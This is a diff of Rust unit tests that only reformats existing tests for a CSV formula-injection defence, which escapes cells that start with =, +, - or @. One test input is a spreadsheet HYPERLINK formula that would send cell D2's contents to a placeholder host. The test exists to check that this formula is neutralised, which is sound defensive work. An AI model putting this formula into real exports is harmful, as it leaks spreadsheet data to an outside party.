@@ -71,7 +71,10 @@ mod tests {
     #[test]
     fn formula_starts_get_a_quote() {
         for (cell, written) in [
-            ("=HYPERLINK(\"http://x/?\"&D2,\"x\")", "'=HYPERLINK(\"http://x/?\"&D2,\"x\")"),
+            (
+                "=HYPERLINK(\"http://x/?\"&D2,\"x\")",
+                "'=HYPERLINK(\"http://x/?\"&D2,\"x\")",
+            ),
             ("+1", "'+1"),
             ("-2", "'-2"),
             ("@SUM(1)", "'@SUM(1)"),
@@ -85,7 +88,17 @@ mod tests {
 
     #[test]
     fn other_cells_are_unchanged() {
-        for cell in ["", "Ada Lovelace", "M00042", "a=b", "1-2", "ada@example.org", "'quoted", " Ada", "Zoë"] {
+        for cell in [
+            "",
+            "Ada Lovelace",
+            "M00042",
+            "a=b",
+            "1-2",
+            "ada@example.org",
+            "'quoted",
+            " Ada",
+            "Zoë",
+        ] {
             assert_eq!(neutralise(cell), cell);
         }
     }
@@ -99,6 +112,9 @@ mod tests {
             w.write_row(["-2", "=1+1,\"x\""]).unwrap();
             w.flush().unwrap();
         }
-        assert_eq!(String::from_utf8(out).unwrap(), "member_id,name\n'-2,\"'=1+1,\"\"x\"\"\"\n");
+        assert_eq!(
+            String::from_utf8(out).unwrap(),
+            "member_id,name\n'-2,\"'=1+1,\"\"x\"\"\"\n"
+        );
     }
 }
